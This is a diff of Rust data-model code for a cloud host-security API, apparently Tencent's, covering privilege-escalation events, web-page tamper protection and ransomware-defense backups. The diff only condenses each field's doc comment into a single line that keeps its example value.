-    /// `ProcFilePrivilege`: a string.
-    ///
-    /// Example: `"rwx"`
+    /// `ProcFilePrivilege`; example: `"rwx"`
     pub proc_file_privilege: String,
 
-    /// `ParentProcName`: a string.
-    ///
-    /// Example: `"bash"`
+    /// `ParentProcName`; example: `"bash"`
     pub parent_proc_name: String,
 
-    /// `ParentProcUser`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcUser`; example: `"root"`
     pub parent_proc_user: String,
 
-    /// `ParentProcGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcGroup`; example: `"root"`
     pub parent_proc_group: String,
 
-    /// `ParentProcPath`: a string.
-    ///
-    /// Example: `"/bin/bash"`
+    /// `ParentProcPath`; example: `"/bin/bash"`
     pub parent_proc_path: String,
 
-    /// `ProcTree`: a string.
-    ///
-    /// Example: `"a(root),bash(ubuntu),sshd(ubuntu),sshd(root),sshd(root),init(root)"`
+    /// `ProcTree`; example: `"a(root),bash(ubuntu),sshd(ubuntu),sshd(root),sshd(root),init(root)"`
     pub proc_tree: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 02:19:08"`
+    /// `CreateTime`; example: `"2024-10-30 02:19:08"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"2024-10-30 02:19:08"`
+    /// `MachineName`; example: `"2024-10-30 02:19:08"`
     pub machine_name: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: i64,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `Count`; example: `10`
     pub count: Option<i64>,
 }
 
@@ -9186,139 +6007,85 @@ pub struct PrivilegeEscalationProcess {
 /// Returned in the output of [`DescribePrivilegeEventInfo`](super::DescribePrivilegeEventInfo).
 #[tc_model]
 pub struct PrivilegeEventInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"nginx"`
+    /// `ProcessName`; example: `"nginx"`
     pub process_name: String,
 
-    /// `FullPath`: a string.
-    ///
-    /// Example: `"/bin/nginx"`
+    /// `FullPath`; example: `"/bin/nginx"`
     pub full_path: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"/bin/nginx"`
+    /// `CmdLine`; example: `"/bin/nginx"`
     pub cmd_line: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `UserGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserGroup`; example: `"root"`
     pub user_group: String,
 
-    /// `ProcFilePrivilege`: a string.
-    ///
-    /// Example: `"rwx"`
+    /// `ProcFilePrivilege`; example: `"rwx"`
     pub proc_file_privilege: String,
 
-    /// `ParentProcName`: a string.
-    ///
-    /// Example: `"/bin/ssh"`
+    /// `ParentProcName`; example: `"/bin/ssh"`
     pub parent_proc_name: String,
 
-    /// `ParentProcUser`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcUser`; example: `"root"`
     pub parent_proc_user: String,
 
-    /// `ParentProcGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcGroup`; example: `"root"`
     pub parent_proc_group: String,
 
-    /// `ParentProcPath`: a string.
-    ///
-    /// Example: `"/bin/ssh"`
+    /// `ParentProcPath`; example: `"/bin/ssh"`
     pub parent_proc_path: String,
 
-    /// `PsTree`: a string.
-    ///
-    /// Example: `"{pid:1}"`
+    /// `PsTree`; example: `"{pid:1}"`
     pub ps_tree: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 02:19:08"`
+    /// `CreateTime`; example: `"2024-10-30 02:19:08"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"ins-agent"`
+    /// `MachineName`; example: `"ins-agent"`
     pub machine_name: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"危害描述"`
+    /// `HarmDescribe`; example: `"危害描述"`
     pub harm_describe: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["标签1","标签2"]`
+    /// `Tags`; example: `["标签1","标签2"]`
     pub tags: Vec<String>,
 
-    /// `References`: a list of strings.
-    ///
-    /// Example: `["http://www.tencent.com"]`
+    /// `References`; example: `["http://www.tencent.com"]`
     pub references: Vec<String>,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"124.2.4.55"`
+    /// `MachineWanIp`; example: `"124.2.4.55"`
     pub machine_wan_ip: String,
 
-    /// `NewCaps`: a string.
-    ///
-    /// Example: `"CUEN-CUNE;CNE-EE"`
+    /// `NewCaps`; example: `"CUEN-CUNE;CNE-EE"`
     pub new_caps: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `Count`; example: `10`
     pub count: Option<i64>,
 }
 
@@ -9327,54 +6094,34 @@ pub struct PrivilegeEventInfo {
 /// Returned in the output of [`DescribePrivilegeRules`](super::DescribePrivilegeRules).
 #[tc_model]
 pub struct PrivilegeRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10001`
+    /// `Id`; example: `10001`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
+    /// `Uuid`; example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
     pub uuid: String,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"nginx"`
+    /// `ProcessName`; example: `"nginx"`
     pub process_name: String,
 
-    /// `SMode`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SMode`; example: `1`
     pub s_mode: u64,
 
-    /// `Operator`: a string.
-    ///
-    /// Example: `"master"`
+    /// `Operator`; example: `"master"`
     pub operator: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `CreateTime`; example: `"2024-11-04 09:57:28"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `ModifyTime`; example: `"2024-11-04 09:57:28"`
     pub modify_time: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"192.32.**.**"`
+    /// `Hostip`; example: `"192.32.**.**"`
     pub hostip: String,
 }
 
@@ -9383,14 +6130,10 @@ pub struct PrivilegeRule {
 /// Returned in the output of [`DescribeProcessStatistics`](super::DescribeProcessStatistics).
 #[tc_model]
 pub struct ProcessStatistics {
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"nginx"`
+    /// `ProcessName`; example: `"nginx"`
     pub process_name: String,
 
-    /// `MachineNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MachineNum`; example: `0`
     pub machine_num: u64,
 }
 
@@ -9399,25 +6142,17 @@ pub struct ProcessStatistics {
 /// Returned in the output of [`DescribeProductStatus`](super::DescribeProductStatus).
 #[tc_model]
 pub struct ProductStatusInfo {
-    /// `FWUserStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FWUserStatus`; example: `1`
     #[tc(rename = "FWUserStatus")]
     pub fw_user_status: u64,
 
-    /// `CanApplyTrial`: a boolean.
-    ///
-    /// Example: `true`
+    /// `CanApplyTrial`; example: `true`
     pub can_apply_trial: bool,
 
-    /// `CanNotApplyReason`: a string.
-    ///
-    /// Example: `"不是企业用户，不符合试用条件"`
+    /// `CanNotApplyReason`; example: `"不是企业用户，不符合试用条件"`
     pub can_not_apply_reason: String,
 
-    /// `LastTrialTime`: a string.
-    ///
-    /// Example: `"2022-06-23 10:25:45"`
+    /// `LastTrialTime`; example: `"2022-06-23 10:25:45"`
     pub last_trial_time: String,
 }
 
@@ -9426,69 +6161,43 @@ pub struct ProductStatusInfo {
 /// Returned in the output of [`DescribeProtectDirList`](super::DescribeProtectDirList).
 #[tc_model]
 pub struct ProtectDirInfo {
-    /// `DirName`: a string.
-    ///
-    /// Example: `"/etc/path"`
+    /// `DirName`; example: `"/etc/path"`
     pub dir_name: String,
 
-    /// `DirPath`: a string.
-    ///
-    /// Example: `"/home/te****"`
+    /// `DirPath`; example: `"/home/te****"`
     pub dir_path: String,
 
-    /// `RelatedServerNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RelatedServerNum`; example: `0`
     pub related_server_num: u64,
 
-    /// `ProtectServerNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectServerNum`; example: `0`
     pub protect_server_num: u64,
 
-    /// `NoProtectServerNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `NoProtectServerNum`; example: `0`
     pub no_protect_server_num: u64,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"/home/te****"`
+    /// `Id`; example: `"/home/te****"`
     pub id: String,
 
-    /// `ProtectStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectStatus`; example: `0`
     pub protect_status: u64,
 
-    /// `ProtectException`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectException`; example: `0`
     pub protect_exception: u64,
 
-    /// `AutoRestoreSwitchStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AutoRestoreSwitchStatus`; example: `0`
     pub auto_restore_switch_status: u64,
 
-    /// `FirstProtectTime`: a string.
-    ///
-    /// Example: `"2020-11-11 10:1****"`
+    /// `FirstProtectTime`; example: `"2020-11-11 10:1****"`
     pub first_protect_time: String,
 
-    /// `LatestProtectTime`: a string.
-    ///
-    /// Example: `"2020-11-11 10:1****"`
+    /// `LatestProtectTime`; example: `"2020-11-11 10:1****"`
     pub latest_protect_time: String,
 
-    /// `ProtectFileType`: a string.
-    ///
-    /// Example: `".php;.js"`
+    /// `ProtectFileType`; example: `".php;.js"`
     pub protect_file_type: String,
 
-    /// `ProtectFilesCount`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectFilesCount`; example: `0`
     pub protect_files_count: i64,
 }
 
@@ -9497,70 +6206,46 @@ pub struct ProtectDirInfo {
 /// Returned in the output of [`DescribeProtectDirRelatedServer`](super::DescribeProtectDirRelatedServer).
 #[tc_model]
 pub struct ProtectDirRelatedServer {
-    /// `Id`: a string.
-    ///
-    /// Example: `"6961"`
+    /// `Id`; example: `"6961"`
     pub id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"v_ixnili事件调查****"`
+    /// `HostName`; example: `"v_ixnili事件调查****"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"172.16.48****"`
+    /// `HostIp`; example: `"172.16.48****"`
     pub host_ip: String,
 
-    /// `MachineOs`: a string.
-    ///
-    /// Example: `"CentOS 7.9****"`
+    /// `MachineOs`; example: `"CentOS 7.9****"`
     pub machine_os: String,
 
-    /// `RelateDirNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RelateDirNum`; example: `0`
     pub relate_dir_num: u64,
 
-    /// `ProtectStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `6`
+    /// `ProtectStatus`; example: `6`
     pub protect_status: u64,
 
-    /// `ProtectSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectSwitch`; example: `0`
     pub protect_switch: u64,
 
-    /// `AutoRestoreSwitchStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AutoRestoreSwitchStatus`; example: `0`
     pub auto_restore_switch_status: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"8ce366dc-624e-429c-a8da-5ab870ec****"`
+    /// `Quuid`; example: `"8ce366dc-624e-429c-a8da-5ab870ec****"`
     pub quuid: String,
 
-    /// `Authorization`: a boolean.
+    /// `Authorization`
     pub authorization: bool,
 
-    /// `Exception`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Exception`; example: `0`
     pub exception: u64,
 
-    /// `Progress`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Progress`; example: `0`
     pub progress: u64,
 
-    /// `ExceptionMessage`: a string.
-    ///
-    /// Example: `"启动中"`
+    /// `ExceptionMessage`; example: `"启动中"`
     pub exception_message: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -9569,57 +6254,37 @@ pub struct ProtectDirRelatedServer {
 /// Returned in the output of [`DescribeWebPageEventList`](super::DescribeWebPageEventList).
 #[tc_model]
 pub struct ProtectEventLists {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"host1"`
+    /// `HostName`; example: `"host1"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"172.16.100.1"`
+    /// `HostIp`; example: `"172.16.100.1"`
     pub host_ip: String,
 
-    /// `EventDir`: a string.
-    ///
-    /// Example: `"event"`
+    /// `EventDir`; example: `"event"`
     pub event_dir: String,
 
-    /// `EventType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `EventType`; example: `0`
     pub event_type: u64,
 
-    /// `EventStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `EventStatus`; example: `0`
     pub event_status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2020-10-01 01:01:10"`
+    /// `CreateTime`; example: `"2020-10-01 01:01:10"`
     pub create_time: String,
 
-    /// `RestoreTime`: a string.
-    ///
-    /// Example: `"2020-10-01 01:01:10"`
+    /// `RestoreTime`; example: `"2020-10-01 01:01:10"`
     pub restore_time: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `FileType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FileType`; example: `0`
     pub file_type: u64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: MachineExtraInfo,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Quuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub quuid: String,
 }
 
@@ -9628,19 +6293,13 @@ pub struct ProtectEventLists {
 /// Sent in the input of [`CreateProtectServer`](super::CreateProtectServer) and [`ModifyWebPageProtectDir`](super::ModifyWebPageProtectDir).
 #[tc_model]
 pub struct ProtectHostConfig {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"15c76928-e4e1-4f0d-8a2a-46c7de78****"`
+    /// `Quuid`; example: `"15c76928-e4e1-4f0d-8a2a-46c7de78****"`
     pub quuid: String,
 
-    /// `ProtectSwitch`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectSwitch`; example: `0`
     pub protect_switch: u64,
 
-    /// `AutoRecovery`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AutoRecovery`; example: `0`
     pub auto_recovery: u64,
 }
 
@@ -9649,19 +6308,13 @@ pub struct ProtectHostConfig {
 /// Returned in the output of [`DescribeWebPageServiceInfo`](super::DescribeWebPageServiceInfo).
 #[tc_model]
 pub struct ProtectMachine {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"host1"`
+    /// `HostName`; example: `"host1"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.1.92"`
+    /// `HostIp`; example: `"10.0.1.92"`
     pub host_ip: String,
 
-    /// `SafeguardDirNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SafeguardDirNum`; example: `0`
     pub safeguard_dir_num: u64,
 }
 
@@ -9670,24 +6323,16 @@ pub struct ProtectMachine {
 /// Returned in the output of [`DescribeWebPageServiceInfo`](super::DescribeWebPageServiceInfo).
 #[tc_model]
 pub struct ProtectMachineInfo {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"host1"`
+    /// `HostName`; example: `"host1"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.1.92"`
+    /// `HostIp`; example: `"10.0.1.92"`
     pub host_ip: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2020-11-21 15:16:00"`
+    /// `CreateTime`; example: `"2020-11-21 15:16:00"`
     pub create_time: String,
 
-    /// `ExpireTime`: a string.
-    ///
-    /// Example: `"2020-11-21 15:16:00"`
+    /// `ExpireTime`; example: `"2020-11-21 15:16:00"`
     pub expire_time: String,
 }
 
@@ -9696,14 +6341,10 @@ pub struct ProtectMachineInfo {
 /// Returned in the output of [`DescribeWebPageProtectStat`](super::DescribeWebPageProtectStat).
 #[tc_model]
 pub struct ProtectStat {
-    /// `Name`: a string.
-    ///
-    /// Example: `"/tmp"`
+    /// `Name`; example: `"/tmp"`
     pub name: String,
 
-    /// `Num`: an unsigned 64-bit integer.
-    ///
-    /// Example: `56`
+    /// `Num`; example: `56`
     pub num: u64,
 }
 
@@ -9712,49 +6353,31 @@ pub struct ProtectStat {
 /// Returned in the output of [`DescribeRansomDefenseBackupList`](super::DescribeRansomDefenseBackupList).
 #[tc_model]
 pub struct RansomDefenseBackup {
-    /// `BackupTime`: a string.
-    ///
-    /// Example: `"2022-11-11 11:00:00"`
+    /// `BackupTime`; example: `"2022-11-11 11:00:00"`
     pub backup_time: String,
 
-    /// `EventStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventStatus`; example: `1`
     pub event_status: u64,
 
-    /// `BackupStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `BackupStatus`; example: `1`
     pub backup_status: u64,
 
-    /// `DiskCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DiskCount`; example: `1`
     pub disk_count: u64,
 
-    /// `Disks`: a string.
-    ///
-    /// Example: `"id1|name1;id2|name2"`
+    /// `Disks`; example: `"id1|name1;id2|name2"`
     pub disks: String,
 
-    /// `SnapshotIds`: a string.
-    ///
-    /// Example: `"id1;id2"`
+    /// `SnapshotIds`; example: `"id1;id2"`
     pub snapshot_ids: String,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `StrategyId`; example: `1`
     pub strategy_id: u64,
 
-    /// `StrategyStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `StrategyStatus`; example: `1`
     pub strategy_status: u64,
 
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"tt1"`
+    /// `StrategyName`; example: `"tt1"`
     pub strategy_name: String,
 }
 
@@ -9763,112 +6386,70 @@ pub struct RansomDefenseBackup {
 /// Returned in the output of [`DescribeRansomDefenseEventsList`](super::DescribeRansomDefenseEventsList).
 #[tc_model]
 pub struct RansomDefenseEvent {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"test-agent"`
+    /// `HostName`; example: `"test-agent"`
     pub host_name: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `BaitFilePath`: a string.
-    ///
-    /// Example: `"/var/www/index.html"`
+    /// `BaitFilePath`; example: `"/var/www/index.html"`
     pub bait_file_path: String,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `FilePath`; example: `"/tmp/test"`
     pub file_path: String,
 
-    /// `Pid`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: u64,
 
-    /// `PidParam`: a string.
-    ///
-    /// Example: `"bash -c echo \"Csip data test\" >> /home/.yjfile/121hcXh.doc  ****"`
+    /// `PidParam`; example: `"bash -c echo \"Csip data test\" >> /home/.yjfile/121hcXh.doc  ****"`
     pub pid_param: String,
 
-    /// `FileSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FileSize`; example: `1`
     pub file_size: u64,
 
-    /// `FileMd5`: a string.
-    ///
-    /// Example: `"708cae4cf814c3deda4208da228fad4e"`
+    /// `FileMd5`; example: `"708cae4cf814c3deda4208da228fad4e"`
     pub file_md5: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Type`; example: `0`
     pub r#type: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `CreateTime`; example: `"2024-10-30 09:12:21"`
     pub create_time: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-eubxdt5"`
+    /// `InstanceId`; example: `"ins-eubxdt5"`
     pub instance_id: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `ModifyTime`; example: `"2024-10-30 09:12:21"`
     pub modify_time: String,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `StrategyId`; example: `1`
     pub strategy_id: u64,
 
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"testname"`
+    /// `StrategyName`; example: `"testname"`
     pub strategy_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `WanIp`; example: `"10.0.0.1"`
     pub wan_ip: String,
 
-    /// `PsTree`: a string.
+    /// `PsTree`
     pub ps_tree: String,
 
-    /// `ProcessStartTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `ProcessStartTime`; example: `"2024-10-30 09:12:21"`
     pub process_start_time: String,
 
-    /// `SnapshotNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SnapshotNum`; example: `1`
     pub snapshot_num: u64,
 }
 
@@ -9877,62 +6458,40 @@ pub struct RansomDefenseEvent {
 /// Returned in the output of [`DescribeRansomDefenseRollBackTaskList`](super::DescribeRansomDefenseRollBackTaskList).
 #[tc_model]
 pub struct RansomDefenseRollbackTask {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test1"`
+    /// `MachineName`; example: `"test1"`
     pub machine_name: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `Disks`: a string.
-    ///
-    /// Example: `"dsk-dsdsds;dsk-dssds"`
+    /// `Disks`; example: `"dsk-dsdsds;dsk-dssds"`
     pub disks: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2022-11-11 11:00:00"`
+    /// `CreateTime`; example: `"2022-11-11 11:00:00"`
     pub create_time: String,
 
-    /// `BackupTime`: a string.
-    ///
-    /// Example: `"2022-11-11 11:00:00"`
+    /// `BackupTime`; example: `"2022-11-11 11:00:00"`
     pub backup_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2022-11-11 11:00:00"`
+    /// `ModifyTime`; example: `"2022-11-11 11:00:00"`
     pub modify_time: String,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: RegionInfo,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"cwp-1sds"`
+    /// `InstanceId`; example: `"cwp-1sds"`
     pub instance_id: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 }
 
@@ -9941,79 +6500,49 @@ pub struct RansomDefenseRollbackTask {
 /// Returned in the output of [`DescribeRansomDefenseStrategyList`](super::DescribeRansomDefenseStrategyList).
 #[tc_model]
 pub struct RansomDefenseStrategy {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: i64,
 
-    /// `Uin`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Uin`; example: `"1"`
     pub uin: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"strategyName"`
+    /// `Name`; example: `"strategyName"`
     pub name: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"subtitle"`
+    /// `Description`; example: `"subtitle"`
     pub description: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `IsAll`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsAll`; example: `1`
     pub is_all: u64,
 
-    /// `IncludeDir`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `IncludeDir`; example: `"/root"`
     pub include_dir: String,
 
-    /// `ExcludeDir`: a string.
-    ///
-    /// Example: `"/usr"`
+    /// `ExcludeDir`; example: `"/usr"`
     pub exclude_dir: String,
 
-    /// `BackupType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `BackupType`; example: `0`
     pub backup_type: u64,
 
-    /// `Weekday`: a string.
-    ///
-    /// Example: `"1;2;3"`
+    /// `Weekday`; example: `"1;2;3"`
     pub weekday: String,
 
-    /// `Hour`: a string.
-    ///
-    /// Example: `"11:00"`
+    /// `Hour`; example: `"11:00"`
     pub hour: String,
 
-    /// `SaveDay`: an unsigned 64-bit integer.
-    ///
-    /// Example: `5`
+    /// `SaveDay`; example: `5`
     pub save_day: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2022-12-12 12:12:12"`
+    /// `CreateTime`; example: `"2022-12-12 12:12:12"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2022-12-12 12:12:12"`
+    /// `ModifyTime`; example: `"2022-12-12 12:12:12"`
     pub modify_time: String,
 
-    /// `MachineCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `MachineCount`; example: `12`
     pub machine_count: u64,
 }
 
@@ -10022,84 +6551,52 @@ pub struct RansomDefenseStrategy {
 /// Returned in the output of [`DescribeRansomDefenseStrategyDetail`](super::DescribeRansomDefenseStrategyDetail).
 #[tc_model]
 pub struct RansomDefenseStrategyDetail {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `666`
+    /// `Id`; example: `666`
     pub id: i64,
 
-    /// `Uin`: a string.
-    ///
-    /// Example: `"666"`
+    /// `Uin`; example: `"666"`
     pub uin: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"policy-1"`
+    /// `Name`; example: `"policy-1"`
     pub name: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"subtitle"`
+    /// `Description`; example: `"subtitle"`
     pub description: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
